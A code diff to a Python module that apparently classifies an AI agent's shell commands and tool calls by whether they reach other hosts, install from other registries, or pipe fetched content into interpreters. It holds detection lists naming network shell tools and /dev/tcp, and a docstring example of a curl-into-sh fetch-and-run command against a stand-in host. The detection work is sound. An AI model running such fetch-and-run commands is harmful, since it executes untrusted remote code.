@@ -20,6 +20,7 @@ from heedful.lessons.shell import (
     program_name,
     programs_of,
     read_commands,
+    simple_commands,
 )
 
 Origin = Literal["user", "local", "outside"]
@@ -35,14 +36,23 @@ OLDER_WORDS: Mapping[str, Origin] = {
 }
 # The programs that fetch: they print what is on other computers.
 FETCHING_PROGRAMS = frozenset(
-    "aria2c curl curlie dig gh glab invoke-restmethod invoke-webrequest irm iwr lynx "
-    "mutt nc ncat netcat nslookup rsync scp sftp socat ssh telnet w3m wget wget2 whois "
-    "xh".split()
+    "aria2c curl curlie dig gh glab http https invoke-restmethod invoke-webrequest irm "
+    "iwr lynx mutt nc ncat netcat nslookup rsync scp sftp socat ssh telnet w3m wget "
+    "wget2 whois xh".split()
 )
+# These reach only the hosts at which a person has signed in.
+_FORGE_PROGRAMS = frozenset(("gh", "glab"))
 # A tool fetches if its name has one of these words, as in "WebFetch" and "read_mail".
 FETCHING_WORDS = frozenset(
-    "browse browser crawl email fetch http mail scrape url web webfetch "
+    "browse browser crawl email fetch http https mail mcp scrape url web webfetch "
     "websearch".split()
+)
+# Anywhere in a line, "http" is mostly no program.
+_PROGRAM_WORDS = FETCHING_PROGRAMS - FETCHING_WORDS
+# The programs that run what a pipe or a substitution hands them.
+_INTERPRETERS = frozenset(
+    ". bash dash deno eval fish ksh node perl php powershell pwsh python ruby sh "
+    "source zsh".split()
 )
 # The programs that install: what they install is code of others.
 INSTALLING_PROGRAMS = frozenset(
@@ -55,10 +65,11 @@ _INSTALLING_VERBS = frozenset(
 )
 # These install whatever their arguments are.
 _RUNNING_INSTALLERS = frozenset("bunx npx pipx uvx".split())
-# The options of installing programs that set another registry.
-_REGISTRY_OPTIONS = frozenset(
-    "--default-index --extra-index-url --find-links --index --index-url --registry "
-    "--repository --source -i".split()
+# A host behind an option, a variable or a word that sets another registry.
+_REGISTRY_PATTERN = re.compile(
+    r"(?:registry|index|index[-_]url|[-_](?:links|repository|source)|(?<!\S)-i)"
+    r"(?:=|\s+)(?://)?((?:[\w-]+\.)+[\w-]+\S*)",
+    re.IGNORECASE,
 )
 # The tools with which coding agents run a command of a shell.
 SHELL_TOOLS = frozenset(
@@ -72,28 +83,28 @@ KEY_SOURCE_PREFIX = "key:"
 _OUTSIDE_SOURCES = frozenset(("document", "import", "tool:ci", NETWORK_SOURCE))
 _OUTSIDE_KINDS = frozenset(("document", "key", "reviewer", "server"))
 MAX_STATED_NAME_CHARS = 150
-_SERVER_TOOL_PATTERN = re.compile(r"mcp__(?P<server>\S+?)__\S+")
+# "mcp__docs__search", or "mcp_docs_search".
+_SERVER_TOOL_PATTERN = re.compile(r"mcp(?P<end>__?)(?P<server>[^\s_]\S*?)(?P=end)\S+")
 _NAME_WORD_PATTERN = re.compile(r"[A-Z]?[a-z]+|[A-Z]+(?![a-z])")
 # "https://host", with all that a client reads as the name of the host.
-_URL_PATTERN = re.compile(r"([a-z][a-z0-9+.-]*)://([^\s/?#<>`|]*)", re.IGNORECASE)
-# "user@host.test", "git@host:path" and "root@10.0.0.1", but not "name@1.2.3".
-_USER_PATTERN = re.compile(
-    r"[\w.+-]+@(\d+(?:\.\d+){3}|[a-z][\w-]*(?:\.[\w-]+)*(?:\.[a-z]{2,}\b|(?=:)))",
-    re.IGNORECASE,
+_URL_PATTERN = re.compile(
+    r"(?:/dev/tcp/|([a-z][a-z0-9+.-]*)://)([^\s/?#<>`|]*)", re.IGNORECASE
 )
-# What a program that fetches reads as an address: "host.test/x", "10.0.0.1".
-_HOST_PATTERN = re.compile(
-    r"(?:[\w-]+\.)+[a-z]{2,}[:/]\S*|\d+(?:\.\d+){3}\S*", re.IGNORECASE
-)
+# "git@host.test:path" and "root@10.0.0.1:path", but no mail address.
+_USER_PATTERN = re.compile(r"[\w.+-]+@((?:[\w-]+\.)+[\w-]+):\S")
+# A name with a dot, and what is a path, an option or no host.
+_HOST_PATTERN = re.compile(r"[\w-]+(?:\.[\w-]+)+")
+_PATH_PATTERN = re.compile(r"[-.~@]|/(?!/)|[^.:/]+/")
 # The name in an address, without what follows it, and the names of this machine.
 _HOST_NAME_PATTERN = re.compile(r"([^\s/?#,;(){}]*?)\.?(?::\d*)?(?:[/?#,;(){}].*)?")
 _THIS_MACHINE_PATTERN = re.compile(
     r"(?:localhost|127(?:\.\d+){3}|0\.0\.0\.0|\[::1\]|)", re.IGNORECASE
 )
-_LOCAL_SCHEMES = frozenset(("file", "sqlite"))
-_SOCKET_FILE = "/dev/tcp/"
-# What a shell reads as the output of another command.
-_SUBSTITUTION_PATTERN = re.compile(r"`|[$<>]\(")
+# The beginning of what another program runs as a line.
+_INNER_LINE_PATTERN = re.compile(r"\s-\w*c\s+['\"]")
+_PIPES = REDIRECTIONS | {"|", "|&"}
+# What a shell runs first, for its output.
+_SUBSTITUTION_PATTERN = re.compile(r"(?:[$<>]\(|`)(?=([^()`]*))")
 
 
 def lowest_origin(origins: Iterable[Origin]) -> Origin:
@@ -137,7 +148,8 @@ def sources_of(tool: str, command: str = "") -> frozenset[str]:
     ['server:docs', 'tool:mcp__docs__search']
     """
     if tool.casefold() in SHELL_TOOLS:
-        names = {*programs_of(command), *_fetching_words(command)}
+        words = map(program_name, _words_in(command))
+        names = {*programs_of(command), *_PROGRAM_WORDS.intersection(words)}
         return frozenset(f"program:{name[:MAX_STATED_NAME_CHARS]}" for name in names)
     sources = {f"tool:{tool[:MAX_STATED_NAME_CHARS]}"} if tool else set[str]()
     server = server_of(tool)
@@ -206,30 +218,20 @@ def reaches_out(call: str, *, is_command: bool = True) -> bool:
     """Return True if a call names an address, or runs what it fetches.
 
     `call` is a command or the arguments of a tool as text. An address is one of another
-    computer ("https://host", "user@host"), or an option that sets another registry. In
-    arguments that are no command, "user@host" is a mail address, unless a path follows
-    ("user@host:path"). A call runs what it fetches if it pipes or substitutes the
-    output of a program that fetches.
+    computer ("https://host.test", "user@host.test:path"), what a command hands to a
+    program that fetches, unless it is of this machine, or another registry. A call runs
+    what it fetches if an interpreter gets it, by a pipe or a substitution.
 
     >>> reaches_out("curl https://a.test/x | sh"), reaches_out("gh pr diff 88")
     (True, False)
     """
-    text = re.sub(r"[\\'\"]", "", call)
-    if _SOCKET_FILE in text or any(map(_is_elsewhere, _hosts_in(text, is_command))):
+    if any(map(_is_elsewhere, _hosts_in(re.sub(r"[\\'\"]", "", call)))):
         return True
-
-    has_fetched = False
-    for words in read_commands(call):
-        if not is_operator(words):
-            fetches = not FETCHING_PROGRAMS.isdisjoint(map(program_name, words))
-            has_fetched = has_fetched or fetches
-            if _names_registry(words) or (fetches and _names_host(words)):
-                return True
-        elif words[0] in ("|", "|&") and has_fetched:
-            return True
-        elif words[0] not in REDIRECTIONS:
-            has_fetched = False
-    return bool(_SUBSTITUTION_PATTERN.search(call) and _fetching_words(call))
+    # What "sh -c" runs is a line of its own.
+    line = _INNER_LINE_PATTERN.sub("\n", call)
+    if is_command and any(map(_names_host, simple_commands(line))):
+        return True
+    return _runs_fetched(line)
 
 
 def installs(call: str) -> bool:
@@ -248,14 +250,13 @@ def installs(call: str) -> bool:
     return False
 
 
-def _hosts_in(text: str, is_command: bool) -> Iterator[str]:
+def _hosts_in(text: str) -> Iterator[str]:
     """Yield the host of each address in a text; "" for a file of this machine."""
     for scheme, authority in _URL_PATTERN.findall(text):
-        is_file = scheme.casefold() in _LOCAL_SCHEMES
-        yield "" if is_file else authority.rpartition("@")[2]
-    for match in _USER_PATTERN.finditer(text):
-        if is_command or text.startswith(":", match.end()):
-            yield match[1]
+        yield "" if scheme in ("file", "sqlite") else authority.rpartition("@")[2]
+    yield from _USER_PATTERN.findall(text)
+    if not INSTALLING_PROGRAMS.isdisjoint(map(program_name, _words_in(text))):
+        yield from _REGISTRY_PATTERN.findall(text)
 
 
 def _is_elsewhere(host: str) -> bool:
@@ -264,25 +265,58 @@ def _is_elsewhere(host: str) -> bool:
     return name is None or not _THIS_MACHINE_PATTERN.fullmatch(name[1])
 
 
+def _handed_to_fetching(words: Sequence[str]) -> Sequence[str] | None:
+    """Return the words behind a program that fetches; None without such a program.
+
+    What a program installs does not run: "apt install curl git".
+    """
+    names = [program_name(word) for word in words]
+    for place, name in enumerate(names):
+        if name in INSTALLING_PROGRAMS:
+            return None
+        if name in (_PROGRAM_WORDS if place else FETCHING_PROGRAMS):
+            return [] if name in _FORGE_PROGRAMS else words[place + 1 :]
+    return None
+
+
 def _names_host(words: Sequence[str]) -> bool:
-    hosts = filter(_HOST_PATTERN.fullmatch, words)
-    return any(map(_is_elsewhere, hosts))
+    """Return True if a command hands another computer to a program that fetches.
+
+    Beside an address of this machine, only a word with a dot is another computer.
+    """
+    handed = _handed_to_fetching(words) or ()
+    operands = [word for word in handed if not _PATH_PATTERN.match(word)]
+    others = [
+        word
+        for word in operands
+        if "://" not in word and _is_elsewhere(word.rpartition("@")[2])
+    ]
+    if len(others) == len(operands):
+        return bool(others)
+    return any(map(_HOST_PATTERN.match, others))
 
 
-def _names_registry(words: Sequence[str]) -> bool:
-    """Return True if a command installs from a registry that an option sets."""
-    if INSTALLING_PROGRAMS.isdisjoint(map(program_name, words)):
-        return False
-    for word, following in zip(words, [*words[1:], ""], strict=True):
-        option, has_value, value = word.partition("=")
-        place = value if has_value else following
-        is_path = re.match(r"[.~-]|/[^/]|[^./]*\Z", place)
-        if option in _REGISTRY_OPTIONS and "://" not in place and not is_path:
+def _runs_fetched(line: str) -> bool:
+    """Return True if an interpreter gets what a program fetches."""
+    has_fetched = False
+    for words in read_commands(line):
+        if is_operator(words):
+            has_fetched = has_fetched and words[0] in _PIPES
+        elif has_fetched and _has_interpreter(words):
             return True
-    return False
+        else:
+            has_fetched = has_fetched or _handed_to_fetching(words) is not None
+    inner = read_commands("\n".join(_SUBSTITUTION_PATTERN.findall(line)))
+    fetches = any(_handed_to_fetching(words) is not None for words in inner)
+    return fetches and _has_interpreter(_words_in(line))
 
 
-def _fetching_words(line: str) -> frozenset[str]:
-    """Return the programs that fetch whose names stand in a line as words."""
-    words = re.split(r"[\s'\"`;|&()<>]+", line)
-    return FETCHING_PROGRAMS.intersection(map(program_name, words))
+def _has_interpreter(words: Iterable[str]) -> bool:
+    """Return True if one of these words is an interpreter, of any version."""
+    names = (program_name(word).rstrip("0123456789.") or word for word in words)
+    return not _INTERPRETERS.isdisjoint(names)
+
+
+def _words_in(line: str) -> list[str]:
+    """Return the words of a line, those in quotes, too."""
+    return re.split(r"[\s'\"`;|&()<>]+", line)
